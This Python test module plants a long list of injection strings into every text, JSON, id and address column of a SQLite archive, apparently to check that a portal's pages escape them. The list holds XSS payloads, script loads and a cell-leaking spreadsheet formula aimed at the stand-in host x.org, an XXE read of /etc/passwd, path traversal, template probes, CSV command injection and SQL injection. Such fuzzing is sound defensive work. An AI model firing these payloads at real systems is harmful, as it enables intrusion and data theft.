"""Texts by which an author of the portal, or who breaks into it, attacks the pages that show them; and their planting
in every text of an archive."""

import json
import re
import sqlite3
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from zlib import crc32

from sqlite_utils import Database

from scraper.archive import counts, schema, search_index

TEXTS = [  # without spaces around them, as the readers keep texts
    # elements and handlers
    "<script>alert(1)</script>", "<script src=//x.org/a.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<b onmouseover=alert(1)>x</b>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<base href='//x.org/'>",
    "<meta http-equiv=refresh content='0;url=//x.org/'>", "<link rel=stylesheet href=//x.org/a.css>",
    "<style>@import '//x.org/a.css';*{display:none}</style>", "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//x.org/><input name=q autofocus onfocus=alert(1)><button>x</form>", "<marquee onstart=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>", "<x-y tabindex=1 onfocus=alert(1) autofocus>x</x-y>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><foreignObject><p>x</foreignObject>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>", "<template><img src=x onerror=alert(1)></template>",
    # ways out of where a text is
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--<script>", "--><script>alert(1)</script>", "--!><img src=x onerror=x>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<noscript><p title='</noscript><img src=x>'>",
    "<plaintext>", "<xmp><img src=x onerror=alert(1)></xmp>", "</p></div></main></body></html>", "<" * 40,
    "</a></td>",
    # attributes
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", '"', "'", "\\", "\\\" onclick=alert(1) x=\\\"",
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>x</script>", "//x.org/a", "\\\\x.org\\a", "http://[oops",
    "https://x.org/\"onmouseover=alert(1)//", "../../../etc/passwd", "?a=b&c=d#e", "file:///etc/passwd",
    "%0d%0aSet-Cookie:a=b", "%00%ff%c0%af",
    # templates, entities
    "{{7*7}}", "{% raw %}{{ config }}{% endraw %}", "{# x #}", "${7*7} #{7*7} <%= 7*7 %>", "{{''.__class__.__mro__}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;img src=x&#62; &#x3c;b&#x3e;",
    "&notit; &#0; &#xD800;",
    # lines, controls, scripts of the world
    "a\r\nSet-Cookie: a=b", "a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT1M\r\nEND:VALARM",
    "a\\nATTENDEE:x;CN=y:z,\\;\\,", "a\nER  - \nTY  - JOUR\nTI  - b", "a}\n}\n@misc{b, title = {c",
    "\\input{/etc/passwd} $x$ %", "a\rb\n\n\nc\x0bd\x0ce", "nul\x00<b>\x00", "\x1b[2J\x1b]0;x\x07\x08",
    "\u202ereversed\u202c \u2066\u200f\u200e", "\ufeff\u200b\u00ad\u2060", "a\u2028alert(1)\u2029b",
    "\ufffe\uffff\ue000", "e" + "\u0301" * 60, "\U0001f469\u200d\U0001f4bb\U000e0041", "ÃƒÂ© Ã© â€™ \x85\x92",
    "ﬁ ſ ı İ ß ＜script＞alert(1)＜/script＞", "مرحبا עברית 中文 \u0e01\u0e33", "W" * 1000, "x" * 300 + "é" * 300,
    "a " * 400,
    # spreadsheets, search, SQL, JSON
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"//x.org/?\"&A1,\"x\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "a;b,c\td\"\"e\"", '"mots" OR NEAR(a b, 2) AND NOT c* ^d title:e',
    "* ( ) - OU -a \"", "'; DROP TABLE news; --", "\"}],\"a\":[{\"b\":\"c", "__proto__", "null", "-1", "0x41",
    "1e999", "NaN", "2024-13-45", "%s %d %(a)s {0} {a!r}", "\\u003cscript\\u003e \\x3c",
]  # fmt: skip
ADDRESS_LIKE = re.compile(r"[\s\x01]*[a-z\t]+:|//|\\\\|\.\./|\?|%", re.IGNORECASE)
"""Texts that take the place of an address; others follow one."""
OF_AN_ID = "\"'<b>&?=%2F{{7*7}} é\u202e\\`;,+|~"
"""What follows an id: what breaks an address or an attribute. An id comes from the path of an address, so that it has
neither `/` nor `#`."""

# The columns that cannot hold what an author writes, by their names, in tables as in JSON: all others can.
IDS = re.compile(r"(.*_)?id|record|themes|groups|funds|news|people")
DATES = re.compile(
    r"starts|ends|published|since|until|opened|moved_from|closed|date|value|started|finished|changed|withdrawn|"
    r"(first|last)_seen|.*_at|applied_at"
)
"""The readers write days and moments, or nothing; of a fund, numbers too."""
HASHES = re.compile(r"(.*_)?sha256|version")
CODES = re.compile(
    r"(record|row)_table|kind|precision|date_source|role|medium|status|country_code|mode|spiders|finish_reason|health|sign|"
    r"rule|reason|(quote_)?field|part|fact|reader|mark|codec|(reader|scraper)_version"
)
"""Words that this program chooses."""
JSON = re.compile(r"fields|headers|layouts|said|dates|facts")
"""Their texts are planted within."""
ADDRESSES = re.compile(r"(.*_)?url|origin")
NOT_OF_RECORDS = re.compile(rf".*_fts(_.*)?|sqlite_.*|_sqlite_.*|{'|'.join((*search_index.TABLES, *counts.TABLES))}")
"""Tables that are made of others."""


@dataclass(frozen=True)
class Planted:
    """A text in the place of another."""

    column: str
    was: str
    text: str


def plant(path: Path, choose: Callable[[int], str], of_an_id: str = OF_AN_ID) -> list[Planted]:
    """Plant a text in every text column of an archive, in each row. Return all that were put in place of another.

    choose: returns the text of a place, by its number. What was there follows it, so that lists and searches stay as
    they were. of_an_id: what follows each id.
    """
    planting = _Planting(choose, of_an_id)
    with closing(sqlite3.connect(path)) as connection:
        db = Database(connection)
        names = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        with db.atomic(), schema.unguarded(db):
            for name in names:
                if not NOT_OF_RECORDS.fullmatch(name):
                    planting.plant(db, name)
            schema.rebuild_indexes(db)
    return planting.planted


class _Planting:
    def __init__(self, choose: Callable[[int], str], of_an_id: str) -> None:
        self.planted: list[Planted] = []
        self._choose, self._of_an_id = choose, of_an_id
        self._number = 0

    def plant(self, db: Database, table: str) -> None:
        described = db.execute(f"PRAGMA table_info([{table}])").fetchall()
        columns = [row[1] for row in described if row[2] == "TEXT"]
        needed = {row[1] for row in described if row[3]}
        names = ", ".join(f"[{name}]" for name in ["rowid", *columns])
        for number, *values in db.execute(f"SELECT {names} FROM [{table}]").fetchall():
            new = [
                value if value is None and column in needed else self._column(f"{table}.{column}", column, value)
                for column, value in zip(columns, values, strict=True)
            ]
            if columns:
                sets = ", ".join(f"[{column}] = ?" for column in columns)
                db.execute(f"UPDATE [{table}] SET {sets} WHERE rowid = ?", [*new, number])

    def _column(self, place: str, name: str, value: str | None) -> str | None:
        """Return what takes the place of a row's value."""
        if JSON.fullmatch(name):
            planted = value and self._within(place, name, json.loads(value))
            return value and json.dumps(planted, ensure_ascii=False, separators=(",", ":"))
        return self._text(place, name, value)

    def _within(self, place: str, name: str, value):
        if isinstance(value, dict):
            return {key: self._within(f"{place}.{key}", key, each) for key, each in value.items()}
        if isinstance(value, list):
            return [self._within(place, name, each) for each in value]
        return self._text(place, name, value) if isinstance(value, str) else value

    def _text(self, place: str, name: str, value: str | None) -> str | None:
        if any(rule.fullmatch(name) for rule in (DATES, HASHES, CODES)):
            return value
        if IDS.fullmatch(name):
            return value and self._id(value)
        if ADDRESSES.fullmatch(name):
            new = self._address(value or "")
        else:
            self._number += 1
            new = f"{self._choose(self._number)} {value or ''}".rstrip(" ")
        if value:
            self.planted.append(Planted(place, value, new))
        return new

    def _id(self, value: str) -> str:
        name, mark, number = value.partition("#")  # which tells the second event of an article from the first
        return name + self._of_an_id + mark + number

    def _address(self, value: str) -> str:
        """Return the same for the same address, in whatever column."""
        text = self._choose(crc32(value.encode()))
        if ADDRESS_LIKE.match(text):
            return f"{text} {value}"
        return (value or "https://exemple.org/a") + text


def harmless(number: int) -> str:
    """Return a text that attacks nothing: what pages are without an attack."""
    return f"mot{number % len(TEXTS)}"


def rotating(number: int) -> str:
    """Return another text for each place."""
    return TEXTS[number % len(TEXTS)]


def bundled(first: int, size: int) -> Callable[[int], str]:
    """Return a choice by which each place has a bundle of texts, another one of them in front."""
    bundle = TEXTS[first : first + size]

    def choose(number: int) -> str:
        return " ".join(bundle[number % len(bundle) :] + bundle[: number % len(bundle)])

    return choose
